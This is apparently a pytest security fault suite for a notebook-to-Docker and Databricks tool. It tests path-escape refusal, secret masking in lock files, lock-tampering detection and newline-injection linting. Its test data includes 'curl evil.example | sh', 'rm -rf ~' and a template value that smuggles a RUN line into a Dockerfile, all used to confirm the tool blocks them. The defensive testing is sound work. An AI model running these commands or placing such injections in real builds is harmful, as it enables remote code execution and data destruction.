"""Fault suite, security and data loss (issue 13, items 1, 4, 5, 6, 7, 10, 13, 14).

One row per fault: each row provokes the fault on real parts (the real engine and
registries, a real HTTP Clusters API server, real processes, real files) and asserts the
clear dcs-magic error or warning AND that nothing was lost or leaked: no file written
outside its place, every lock entry still there, no secret value in any written file.

Rows that need Docker are marked `docker`; run this file under the shared lock:
`flock /tmp/dcs-docker.lock python -m pytest tests/faults/test_security.py`.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook

from dcs_magic.cli.commands import main
from dcs_magic.errors import ContextError, LockError, NotebookError, SpecError
from dcs_magic.model.credentials import Secret
from dcs_magic.model.results import PushResult
from dcs_magic.model.secrets import mask_secrets
from dcs_magic.model.spec import ClusterSpec
from dcs_magic.ops.lock import (
    ImageLock,
    Lock,
    lock_path,
    read_lock,
    update_lock,
    write_lock,
)
from dcs_magic.ops.recipe import (
    build_notebook,
    create_cluster,
    launch_spec,
    render_notebook,
    verify_push,
)

REPO_ROOT = Path(__file__).resolve().parents[2]
SPEC = {"cluster_name": "faults", "spark_version": "15.4.x-scala2.12", "node_type_id": "i3.xlarge",
        "num_workers": 0, "docker_image": {"url": "127.0.0.1:5000/team/app@sha256:" + "a" * 64}}


@dataclass
class Env:
    """What a row gets: a scratch directory, monkeypatch, capsys and any other fixture by name."""

    tmp: Path
    monkeypatch: pytest.MonkeyPatch
    capsys: pytest.CaptureFixture[str]
    request: pytest.FixtureRequest

    def fixture(self, name: str) -> Any:
        return self.request.getfixturevalue(name)


# -- helpers ------------------------------------------------------------------------------------


def write_notebook(path: Path, *sources: str, parameters: str | None = None) -> Path:
    cells = [new_code_cell(parameters, metadata={"tags": ["parameters"]})] if parameters else []
    cells += [new_code_cell(source) for source in sources]
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(new_notebook(cells=cells), path)
    return path


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file under ROOT (symlinks not followed) with its bytes: to prove nothing changed."""
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and not p.is_symlink()}


def files_holding(root: Path, secret: str) -> list[str]:
    """The files under ROOT whose bytes contain SECRET."""
    return [str(p) for p in root.rglob("*") if p.is_file() and secret.encode() in p.read_bytes()]


def victim_dir(env: Env) -> Path:
    """A directory outside the notebook's folder, with a file an attacker would overwrite."""
    victim = env.tmp / "home"
    victim.mkdir()
    (victim / ".bashrc").write_text("# the user's own .bashrc\n")
    return victim


def sealed_lock(env: Env, **push: str) -> Path:
    """A lock file as `dcs build --push` writes it (entry sealed), next to a notebook."""
    digest = "sha256:" + "c" * 64
    entry = ImageLock(dockerfile_sha256="d" * 64, image_id="sha256:" + "1" * 64,
                      push={"reference": "127.0.0.1:5000/team/app:1", "digest": digest,
                            "pinned": f"127.0.0.1:5000/team/app@{digest}", **push}).seal()
    return write_lock(lock_path(env.tmp / "app.ipynb"), Lock(images={"app": entry}, notebook="app.ipynb"))


# -- 1. headless commands confine every context ----------------------------------------------------


def _escape_row(context_line: str, *, build: bool = False) -> Callable[[Env], None]:
    def row(env: Env) -> None:
        victim = victim_dir(env)
        (env.tmp / "nb").mkdir()
        (env.tmp / "nb" / "link").symlink_to(victim)
        line = context_line.format(victim=victim)
        nb = write_notebook(env.tmp / "nb" / "app.ipynb", f"%%dockerfile x {line}\nFROM busybox:1\n",
                            "%%dcs_file x .bashrc\ncurl evil.example | sh\n")
        before = snapshot(env.tmp)
        with pytest.raises(ContextError) as caught:
            if build:
                build_notebook(nb, tags=["dcs-test-faults:1"])
            else:
                render_notebook(nb)
        message = str(caught.value)
        assert "%%dockerfile cell 1 ('x')" in message and "leads outside the notebook's folder" in message
        assert line.split()[-1] in message  # the path as the cell wrote it
        assert snapshot(env.tmp) == before  # nothing written anywhere, .bashrc untouched
        assert not lock_path(nb).exists()
    return row


def row_dcs_file_absolute(env: Env) -> None:
    victim = victim_dir(env)
    nb = write_notebook(env.tmp / "nb" / "app.ipynb", "%%dockerfile x\nFROM busybox:1\n",
                        f"%%dcs_file x {victim / '.bashrc'}\ncurl evil.example | sh\n")
    before = snapshot(env.tmp)
    with pytest.raises(ContextError, match=r"%%dcs_file cell 2 .*leads outside"):
        render_notebook(nb)
    assert snapshot(env.tmp) == before


def row_build_root_symlink_out(env: Env) -> None:
    victim = victim_dir(env)
    (env.tmp / "nb").mkdir()
    (env.tmp / "nb" / "dcs-build").symlink_to(victim)  # the default build root points out
    nb = write_notebook(env.tmp / "nb" / "app.ipynb", "%%dockerfile x\nFROM busybox:1\n",
                        "%%init_script setup\n#!/bin/bash\necho hi\n")
    before = snapshot(env.tmp)
    with pytest.raises(ContextError, match=r"%%dockerfile cell 1 \('x'\).*leads outside"):
        render_notebook(nb)
    assert snapshot(env.tmp) == before and sorted(p.name for p in victim.iterdir()) == [".bashrc"]


def row_init_script_symlink_out(env: Env) -> None:
    victim = victim_dir(env)
    (env.tmp / "nb" / "dcs-build").mkdir(parents=True)
    (env.tmp / "nb" / "dcs-build" / "init-scripts").symlink_to(victim)
    nb = write_notebook(env.tmp / "nb" / "app.ipynb", "%%dockerfile x --context ctx\nFROM busybox:1\n",
                        "%%init_script setup\n#!/bin/bash\necho hi\n")
    with pytest.raises(ContextError, match=r"%%init_script cell 2 \('setup'\).*leads outside"):
        render_notebook(nb)
    assert sorted(p.name for p in victim.iterdir()) == [".bashrc"]
    assert not (env.tmp / "nb" / "ctx").exists()  # refused before any context was written


def row_out_dir_and_inside_context_allowed(env: Env) -> None:
    out = env.tmp / "elsewhere"  # --out is the caller's choice, outside the notebook's folder
    nb = write_notebook(env.tmp / "nb" / "app.ipynb", "%%dockerfile x --context sub/ctx\nFROM busybox:1\n",
                        "%%dcs_file x conf/a.txt\nA\n")
    assert render_notebook(nb).contexts[0].context_dir == env.tmp / "nb" / "sub" / "ctx"
    assert (env.tmp / "nb" / "sub" / "ctx" / "conf" / "a.txt").read_text() == "A\n"
    assert render_notebook(nb, out=out).contexts[0].context_dir == out / "x"
    assert (out / "x" / "conf" / "a.txt").read_text() == "A\n"


def row_cli_render_escape(env: Env) -> None:
    victim = victim_dir(env)
    nb = write_notebook(env.tmp / "nb" / "app.ipynb", f"%%dockerfile x --context {victim}\nFROM busybox:1\n",
                        "%%dcs_file x .bashrc\nrm -rf ~\n")
    assert main(["render", str(nb)]) == 1
    err = env.capsys.readouterr().err
    assert "leads outside the notebook's folder" in err and "Traceback" not in err
    assert (victim / ".bashrc").read_text() == "# the user's own .bashrc\n"


def row_magic_absolute_context_allowed(env: Env) -> None:
    shell = env.fixture("shell")  # cwd = tmp; the interactive user chooses where to write
    target = env.tmp / "abs-ctx"
    shell.run_cell_magic("dockerfile", f"x --context {target} --quiet", "FROM busybox:1\n")
    shell.run_cell_magic("dcs_file", "x notes.txt", "mine\n")
    assert (target / "Dockerfile").read_text() == "FROM busybox:1\n"
    assert (target / "notes.txt").read_text() == "mine\n"


# -- 4. the lock masks every credential-like value -------------------------------------------------


SECRETS = {"OPENAI_API_KEY": "sk-openai-literal-1", "DB_PASSWD": "db-passwd-literal-2",
           "AWS_ACCESS_KEY_ID": "AKIA-literal-3"}


def row_lock_masks_credential_keys(env: Env) -> None:
    from support.clusters_api import ClustersApi, isolate_databricks_config

    from dcs_magic.adapters.workspace import Workspace

    isolate_databricks_config(env.monkeypatch, env.tmp)
    lock_file = sealed_lock(env)
    before = read_lock(lock_file)
    body = {**SPEC, "spark_env_vars": {**SECRETS, "KEEP": "{{secrets/team/openai}}", "PLAIN": "visible"},
            "spark_conf": {"spark.hadoop.fs.s3a.secret.key": "s3a-literal-4", "spark.x.privateKey": "pk-literal-5"},
            "custom_tags": {"auth": "tag-literal-6", "team": "data"}}
    warnings: list[str] = []
    # The lock's image is not in any registry here (item 6 of issue 23 is tested in test_lock_registry.py).
    plan = launch_spec(ClusterSpec.from_dict(body), lock=lock_file, warn=warnings.append, registry_check=False)
    with ClustersApi() as api, Workspace(host=api.host, token=api.token, backoff_factor=0) as ws:
        create_cluster(plan, workspace=ws, warn=warnings.append)
        [sent] = api.requests_to("/clusters/create")
    # The request carries the real values; only the lock masks them.
    assert sent.json["spark_env_vars"]["OPENAI_API_KEY"] == "sk-openai-literal-1"
    assert sent.json["custom_tags"]["auth"] == "tag-literal-6"
    text = lock_file.read_text()
    leaked = [v for v in [*SECRETS.values(), "s3a-literal-4", "pk-literal-5", "tag-literal-6"] if v in text]
    assert leaked == []
    cluster = read_lock(lock_file).images["app"].cluster
    assert cluster["spark_env_vars"] == {"OPENAI_API_KEY": "****", "DB_PASSWD": "****",
                                         "AWS_ACCESS_KEY_ID": "****", "KEEP": "{{secrets/team/openai}}",
                                         "PLAIN": "visible"}
    assert cluster["custom_tags"] == {"auth": "****", "team": "data"}
    assert any("spark_env_vars.OPENAI_API_KEY" in w and "{{secrets/<scope>/openai_api_key}}" in w for w in warnings)
    assert not any("KEEP" in w or "PLAIN" in w for w in warnings)
    # The entry itself (what was built and pushed) is untouched and still verifies.
    after = read_lock(lock_file).images["app"]
    assert after.push == before.images["app"].push and after.problems() == []


def row_masked_lock_never_exported(env: Env) -> None:
    lock_file = sealed_lock(env)
    update_lock(lock_file, lambda lock: setattr(lock.images["app"], "cluster",
                                                {**SPEC, "spark_env_vars": {"DB_PASSWD": "db-passwd-literal-2"}}))
    assert "db-passwd-literal-2" not in lock_file.read_text()
    out = env.tmp / "bundle.yml"
    assert main(["export", "bundle", "--lock", str(lock_file), "--out", str(out), "--no-registry-check"]) == 1
    assert "spark_env_vars.DB_PASSWD" in env.capsys.readouterr().err
    assert not out.exists()  # a spec meant to be sent never gets a `****`


def row_mask_is_one_function(env: Env) -> None:
    body = {**SPEC, "spark_env_vars": {"DB_PASSWD": "x1", "MONKEY": "banana"}}
    spec = ClusterSpec.from_dict(body)
    assert spec.masked()["spark_env_vars"] == mask_secrets(body)["spark_env_vars"] == \
        {"DB_PASSWD": "****", "MONKEY": "banana"}
    assert "x1" not in repr(spec) + spec.to_json()
    assert spec.to_dict()["spark_env_vars"]["DB_PASSWD"] == "x1"  # the body sent is not masked


# -- 5. parallel builds keep every lock entry ------------------------------------------------------


WORKER = textwrap.dedent("""
    import sys
    from dcs_magic.ops.lock import ImageLock, update_lock
    path, name = sys.argv[1], sys.argv[2]
    for round in range(5):
        entry = ImageLock(dockerfile_sha256=str(round) * 64, image_id=f"sha256:{name}-{round}").seal()
        update_lock(path, lambda lock: lock.images.__setitem__(name, entry))
""")


def row_parallel_lock_updates(env: Env) -> None:
    lock_file = env.tmp / "app.dcs.lock.json"
    envvars = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}
    procs = [subprocess.Popen([sys.executable, "-c", WORKER, str(lock_file), f"img{i:02d}"], env=envvars)
             for i in range(12)]
    assert [p.wait(timeout=120) for p in procs] == [0] * 12
    lock = read_lock(lock_file)
    assert sorted(lock.images) == [f"img{i:02d}" for i in range(12)]
    assert all(e.image_id == f"sha256:{n}-4" and e.problems() == [] for n, e in lock.images.items())
    assert sorted(p.name for p in env.tmp.iterdir()) == [".app.dcs.lock.json.flock", "app.dcs.lock.json"]


# -- 6. the lock checks itself ---------------------------------------------------------------------


def row_lock_edited_pinned(env: Env) -> None:
    lock_file = sealed_lock(env)
    data = json.loads(lock_file.read_text())
    data["images"]["app"]["push"]["pinned"] = "127.0.0.1:5000/evil/app@sha256:" + "e" * 64
    lock_file.write_text(json.dumps(data))
    spec = env.tmp / "cluster.json"
    spec.write_text(json.dumps(SPEC))
    with pytest.raises(LockError, match=r"push\.pinned '127\.0\.0\.1:5000/evil/app@sha256:e+' is not the pushed"):
        launch_spec(spec, lock=lock_file)
    assert main(["launch", "--spec", str(spec), "--lock", str(lock_file), "--print"]) == 1
    captured = env.capsys.readouterr()
    assert "does not verify" in captured.err and "evil" not in captured.out


def row_lock_edited_digest(env: Env) -> None:
    lock_file = sealed_lock(env)
    data = json.loads(lock_file.read_text())
    other = "sha256:" + "f" * 64
    data["images"]["app"]["push"].update(digest=other, pinned=f"127.0.0.1:5000/team/app@{other}")
    lock_file.write_text(json.dumps(data))
    with pytest.raises(LockError, match="no longer matches the hash dcs build stored"):
        launch_spec(ClusterSpec.from_dict(SPEC), lock=lock_file)


def row_lock_without_hash(env: Env) -> None:
    lock_file = sealed_lock(env)
    data = json.loads(lock_file.read_text())
    data["images"]["app"]["sha256"] = None
    lock_file.write_text(json.dumps(data))
    with pytest.raises(LockError, match="has no content hash"):
        launch_spec(ClusterSpec.from_dict(SPEC), lock=lock_file)


def row_locked_build_refuses_edited_entry(env: Env) -> None:
    busybox = env.fixture("busybox_image")
    cleanup = env.fixture("docker_cleanup")
    nb = write_notebook(env.tmp / "app.ipynb", f"%%dockerfile app\nFROM {busybox}\nRUN true\n")
    tag = cleanup.add(f"{cleanup.unique('faults-locked')}:1")
    build_notebook(nb, tags=[tag])
    data = json.loads(lock_path(nb).read_text())
    data["images"]["app"]["image_id"] = "sha256:" + "9" * 64
    lock_path(nb).write_text(json.dumps(data))
    before = lock_path(nb).read_bytes()
    with pytest.raises(LockError, match="'app' .* does not verify"):
        build_notebook(nb, tags=[tag], locked=True)
    assert lock_path(nb).read_bytes() == before


def row_registry_manifest_check(env: Env) -> None:
    busybox = env.fixture("busybox_image")
    cleanup = env.fixture("docker_cleanup")
    registry = env.fixture("auth_registry")
    password = Secret(registry.password)
    nb = write_notebook(env.tmp / "app.ipynb", f"%%dockerfile app\nFROM {busybox}\nRUN echo faults > /f\n")
    repo = cleanup.unique("faults-manifest")
    tag = cleanup.add(f"{registry.host}/{repo}:1")
    built = build_notebook(nb, tags=[tag], push=True, username=registry.username, password=password)
    digest = registry.manifest_digest(repo, "1")
    assert built.entry.push["digest"] == digest and built.entry.problems() == []
    # A push whose reported digest is not what the registry serves is refused, lock untouched.
    before = lock_path(nb).read_bytes()
    wrong = PushResult(reference=tag, digest="sha256:" + "0" * 64, pinned=f"{registry.host}/{repo}@sha256:" + "0" * 64)
    with pytest.raises(LockError, match=f"the registry serves {digest} for {tag}"):
        verify_push(wrong, registry.username, password)
    assert lock_path(nb).read_bytes() == before
    assert files_holding(env.tmp, registry.password) == []


# -- 7. build args that look like secrets -----------------------------------------------------------


def row_secret_arg_env_lint(env: Env) -> None:
    nb = write_notebook(env.tmp / "app.ipynb",
                        "%%dockerfile app\nFROM busybox:1.36\nARG NPM_TOKEN\nENV DB_PASSWORD=x API_VERSION=2\n"
                        "ARG PUBLIC_KEY\nRUN true\n")
    warnings: list[str] = []
    render_notebook(nb, warn=warnings.append)
    secret = [w for w in warnings if "secret-in-arg-or-env" in w]
    assert len(secret) == 2
    assert "ARG NPM_TOKEN looks like a secret" in secret[0] and "multi-stage build" in secret[0]
    assert "ENV DB_PASSWORD" in secret[1] and not any("API_VERSION" in w or "PUBLIC_KEY" in w for w in warnings)


def row_secret_build_arg_warning(env: Env) -> None:
    busybox = env.fixture("busybox_image")
    cleanup = env.fixture("docker_cleanup")
    nb = write_notebook(env.tmp / "app.ipynb", f"%%dockerfile app\nFROM {busybox}\nARG NPM_TOKEN\nRUN true\n")
    tag = cleanup.add(f"{cleanup.unique('faults-buildarg')}:1")
    built = build_notebook(nb, tags=[tag], build_args=["NPM_TOKEN=npm-literal-7", "VERSION=1"])
    [warning] = [w for w in built.build.warnings if "looks like a secret" in w]
    assert warning.startswith("--build-arg NPM_TOKEN") and "multi-stage build" in warning
    assert "npm-literal-7" not in " ".join(built.build.warnings)
    assert files_holding(env.tmp, "npm-literal-7") == []  # not in the lock, the log, the context


# -- 10. template variables with newlines -----------------------------------------------------------


INJECT = "1.0\nRUN curl evil.example | sh"


def _multiline_notebook(env: Env) -> Path:
    return write_notebook(env.tmp / "app.ipynb", "%%dockerfile app\nFROM busybox:1.36\nRUN echo {{ version }}\n",
                          "%%dcs_file app notes.txt\n{{ notes }}\n", parameters="version = '1'\nnotes = 'n'\n")


def row_multiline_var_refused(env: Env) -> None:
    nb = _multiline_notebook(env)
    with pytest.raises(NotebookError, match=r"%%dockerfile cell 2 \('app'\): --var version has a newline"):
        render_notebook(nb, variables={"version": INJECT})
    env.monkeypatch.setenv("DCS_VAR_version", INJECT)
    with pytest.raises(NotebookError, match="DCS_VAR_version has a newline"):
        render_notebook(nb)
    assert not (env.tmp / "dcs-build").exists()  # nothing rendered
    env.monkeypatch.delenv("DCS_VAR_version")
    # A newline in a variable only a %%dcs_file uses is fine.
    render_notebook(nb, variables={"notes": "line 1\nline 2"})
    assert (env.tmp / "dcs-build" / "app" / "notes.txt").read_text() == "line 1\nline 2\n"


def row_multiline_var_allowed_is_linted(env: Env) -> None:
    nb = _multiline_notebook(env)
    warnings: list[str] = []
    [context] = render_notebook(nb, variables={"version": INJECT}, allow_multiline_vars=True,
                                warn=warnings.append).contexts
    assert "RUN curl evil.example | sh" in context.dockerfile
    [finding] = [w for w in warnings if "newline-in-variable" in w]
    assert finding.startswith("app/Dockerfile line 3: RUN on this line comes from a template variable's newline")


def row_multiline_parameter_linted(env: Env) -> None:
    nb = write_notebook(env.tmp / "app.ipynb", "%%dockerfile app\nFROM busybox:1.36\nRUN echo {{ version }}\n",
                        parameters=f"version = {INJECT!r}\n")
    warnings: list[str] = []
    render_notebook(nb, warn=warnings.append)
    assert [w for w in warnings if "newline-in-variable" in w and "line 3" in w]


def row_cli_multiline_flag(env: Env) -> None:
    nb = _multiline_notebook(env)
    assert main(["render", str(nb), "--var", f"version={INJECT}"]) == 1
    assert "--allow-multiline-vars" in env.capsys.readouterr().err
    assert main(["render", str(nb), "--var", f"version={INJECT}", "--allow-multiline-vars"]) == 0
    assert "newline-in-variable" in env.capsys.readouterr().err


# -- 13. hashing a 1 GB context file ----------------------------------------------------------------


MEASURE = textwrap.dedent("""
    import json, sys
    from dcs_magic.ops.lock import context_files
    hashes = context_files(sys.argv[1])
    # VmHWM: this process image's own peak RSS. Not getrusage's ru_maxrss, which on Linux
    # keeps the high-water mark of the (large) pytest process this child was forked from.
    with open("/proc/self/status") as status:
        peak_kib = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
    print(json.dumps({"hashes": hashes, "peak_bytes": peak_kib * 1024}))
""")


def row_big_context_file_memory(env: Env) -> None:
    context = env.tmp / "ctx"
    context.mkdir()
    size = 1 << 30
    with open(context / "big.bin", "wb") as handle:  # sparse: no 1 GB of disk needed
        handle.truncate(size)
    (context / "Dockerfile").write_text("FROM busybox:1.36\nCOPY big.bin /\n")
    out = subprocess.run([sys.executable, "-c", MEASURE, str(context)], capture_output=True, text=True,
                         env={**os.environ, "PYTHONPATH": str(REPO_ROOT)}, timeout=300, check=True)
    result = json.loads(out.stdout)
    expected = subprocess.run(["sha256sum", str(context / "big.bin")], capture_output=True, text=True,
                              check=True).stdout.split()[0]
    assert result["hashes"] == {"big.bin": expected}
    assert result["peak_bytes"] < 200 * 1024 * 1024 < size


# -- 14. misspelled cluster fields ------------------------------------------------------------------


def row_unknown_field_warns(env: Env) -> None:
    warnings: list[str] = []
    spec = ClusterSpec.from_dict({**SPEC, "autotermination_minute": 30}, warn=warnings.append)
    assert warnings == [("unknown cluster field 'autotermination_minute'; did you mean 'autotermination_minutes'? "
                         "It is sent as it is; the Clusters API ignores or rejects it")]
    assert spec.extra == {"autotermination_minute": 30}
    with pytest.raises(SpecError, match="did you mean 'autotermination_minutes'") as caught:
        ClusterSpec.from_dict({**SPEC, "autotermination_minute": 30}, strict=True)
    assert caught.value.field == "autotermination_minute"
    # Every field the databricks-sdk knows is known: no warning for a correct spec.
    ClusterSpec.from_dict({**SPEC, "remote_disk_throughput": 250, "autotermination_minutes": 30},
                          warn=warnings.append)
    assert len(warnings) == 1


def row_cli_strict(env: Env) -> None:
    spec = env.tmp / "cluster.json"
    spec.write_text(json.dumps({**SPEC, "autotermination_minute": 30}))
    assert main(["launch", "--spec", str(spec), "--print"]) == 0
    captured = env.capsys.readouterr()
    assert "did you mean 'autotermination_minutes'" in captured.err
    assert json.loads(captured.out)["autotermination_minute"] == 30
    for argv in (["launch", "--spec", str(spec), "--print", "--strict"],
                 ["export", "bundle", "--spec", str(spec), "--strict"],
                 ["run", "--spec", str(spec), "--python-file", "dbfs:/x.py", "--local", "--strict"]):
        assert main(argv) == 1, argv
        captured = env.capsys.readouterr()
        assert "unknown cluster field 'autotermination_minute'" in captured.err and captured.out == "", argv
    assert sorted(p.name for p in env.tmp.iterdir()) == ["cluster.json"]


# -- the table --------------------------------------------------------------------------------------


ROWS: list[Any] = [
    pytest.param(_escape_row("--context {victim}"), id="1-context-absolute"),
    pytest.param(_escape_row("--context ../home"), id="1-context-dotdot"),
    pytest.param(_escape_row("--context link"), id="1-context-symlink-out"),
    pytest.param(_escape_row("--context ../home/ctx", build=True), id="1-build-context-escape"),
    pytest.param(row_dcs_file_absolute, id="1-dcs-file-absolute"),
    pytest.param(row_build_root_symlink_out, id="1-build-root-symlink-out"),
    pytest.param(row_init_script_symlink_out, id="1-init-script-symlink-out"),
    pytest.param(row_out_dir_and_inside_context_allowed, id="1-out-and-inside-allowed"),
    pytest.param(row_cli_render_escape, id="1-cli-render-escape"),
    pytest.param(row_magic_absolute_context_allowed, id="1-magic-absolute-allowed"),
    pytest.param(row_lock_masks_credential_keys, id="4-lock-masks-credential-keys"),
    pytest.param(row_masked_lock_never_exported, id="4-masked-never-sent"),
    pytest.param(row_mask_is_one_function, id="4-one-mask-function"),
    pytest.param(row_parallel_lock_updates, id="5-twelve-parallel-updates"),
    pytest.param(row_lock_edited_pinned, id="6-edited-pinned"),
    pytest.param(row_lock_edited_digest, id="6-edited-digest"),
    pytest.param(row_lock_without_hash, id="6-no-hash"),
    pytest.param(row_locked_build_refuses_edited_entry, id="6-locked-build-edited", marks=pytest.mark.docker),
    pytest.param(row_registry_manifest_check, id="6-registry-manifest", marks=pytest.mark.docker),
    pytest.param(row_secret_arg_env_lint, id="7-arg-env-lint"),
    pytest.param(row_secret_build_arg_warning, id="7-build-arg-warning", marks=pytest.mark.docker),
    pytest.param(row_multiline_var_refused, id="10-multiline-refused"),
    pytest.param(row_multiline_var_allowed_is_linted, id="10-multiline-allowed-linted"),
    pytest.param(row_multiline_parameter_linted, id="10-multiline-parameter-linted"),
    pytest.param(row_cli_multiline_flag, id="10-cli-flag"),
    pytest.param(row_big_context_file_memory, id="13-1GB-context-file"),
    pytest.param(row_unknown_field_warns, id="14-unknown-field"),
    pytest.param(row_cli_strict, id="14-cli-strict"),
]


@pytest.mark.parametrize("row", ROWS)
def test_security(row: Callable[[Env], None], tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                  capsys: pytest.CaptureFixture[str], request: pytest.FixtureRequest) -> None:
    monkeypatch.chdir(tmp_path)
    for name in [k for k in os.environ if k.startswith("DCS_VAR_")]:
        monkeypatch.delenv(name)
    row(Env(tmp_path, monkeypatch, capsys, request))
